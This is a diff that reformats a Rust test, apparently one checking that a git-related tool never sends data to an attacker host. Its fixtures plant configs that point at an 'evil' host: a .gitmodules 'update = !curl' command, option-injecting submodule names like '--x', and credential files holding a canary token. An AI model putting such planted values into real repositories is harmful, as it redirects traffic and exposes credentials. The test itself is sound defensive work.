@@ -146,7 +146,9 @@ fn link(_: &str, _: &std::path::Path) {}
 /// Files that programs of many kinds look for, and what would send something away if ours did.
 fn files(evil: &str) -> Vec<(&'static str, String)> {
     let host = evil.strip_prefix("http://").expect("a host");
-    let yaml = |key: &str| format!("{key}:\n  server: {evil}\n  url: {evil}\n  server_url: {evil}\n  token: {CANARY}\n");
+    let yaml = |key: &str| {
+        format!("{key}:\n  server: {evil}\n  url: {evil}\n  server_url: {evil}\n  token: {CANARY}\n")
+    };
     vec![
         (".kittify/config.yaml", yaml("sync")),
         (".kittify/config.yaml", yaml("server")),
@@ -162,17 +164,28 @@ fn files(evil: &str) -> Vec<(&'static str, String)> {
         (".config/git/config", format!("[mission]\n\tserver = {evil}\n")),
         ("config", format!("[mission]\n\tserver = {evil}\n")),
         (".gitmodules", format!("[submodule \"x\"]\n\tpath = x\n\turl = {evil}\n\tupdate = !curl {evil}\n")),
-        (".gitmodules", format!("[mission]\n\tserver = {evil}\n[submodule \"--x\"]\n\tpath = --x\n\turl = -x\n")),
+        (
+            ".gitmodules",
+            format!("[mission]\n\tserver = {evil}\n[submodule \"--x\"]\n\tpath = --x\n\turl = -x\n"),
+        ),
         (".lfsconfig", format!("[lfs]\n\turl = {evil}\n[mission]\n\tserver = {evil}\n")),
         (".git-credentials", format!("http://u:{CANARY}@{host}\n")),
         (".netrc", format!("machine {host} login u password {CANARY}\n")),
         (".curlrc", format!("proxy = {evil}\n")),
         (".npmrc", format!("proxy={evil}\n")),
-        (".env", format!("GIT_MISSION_TOKEN={CANARY}\nhttps_proxy={evil}\nGIT_CONFIG_PARAMETERS='mission.server={evil}'\n")),
+        (
+            ".env",
+            format!(
+                "GIT_MISSION_TOKEN={CANARY}\nhttps_proxy={evil}\nGIT_CONFIG_PARAMETERS='mission.server={evil}'\n"
+            ),
+        ),
         (".envrc", format!("export http_proxy={evil}\n")),
         (".mission", format!("server = {evil}\n")),
         ("mission.toml", format!("server = '{evil}'\n")),
-        ("kitty-specs/one/meta.json", format!("{{\"slug\": \"{evil}\", \"server\": \"{evil}\", \"target_branch\": \"{evil}\"}}\n")),
+        (
+            "kitty-specs/one/meta.json",
+            format!("{{\"slug\": \"{evil}\", \"server\": \"{evil}\", \"target_branch\": \"{evil}\"}}\n"),
+        ),
         ("kitty-specs/.gitconfig", format!("[mission]\n\tserver = {evil}\n")),
         (".gitattributes", format!("* filter={host} merge={host}\n[attr]{host} -text\n")),
         ("pyproject.toml", format!("[tool.mission]\nserver = '{evil}'\n")),
@@ -247,7 +260,12 @@ fn one_origin_is_one_scheme_host_and_port() {
     use git_mission::transport::Origin;
     let is = |text: &str| Origin::parse(text).map(|origin| origin.to_string());
     let one = is("https://good.example").expect("an origin");
-    for same in ["https://GOOD.example/", "HTTPS://good.example:443", "https://good.example/api?x#y", "https://good.EXAMPLE/%2e%2e/"] {
+    for same in [
+        "https://GOOD.example/",
+        "HTTPS://good.example:443",
+        "https://good.example/api?x#y",
+        "https://good.EXAMPLE/%2e%2e/",
+    ] {
         if let Ok(origin) = is(same) {
             assert_eq!(origin, one, "{same}");
         }
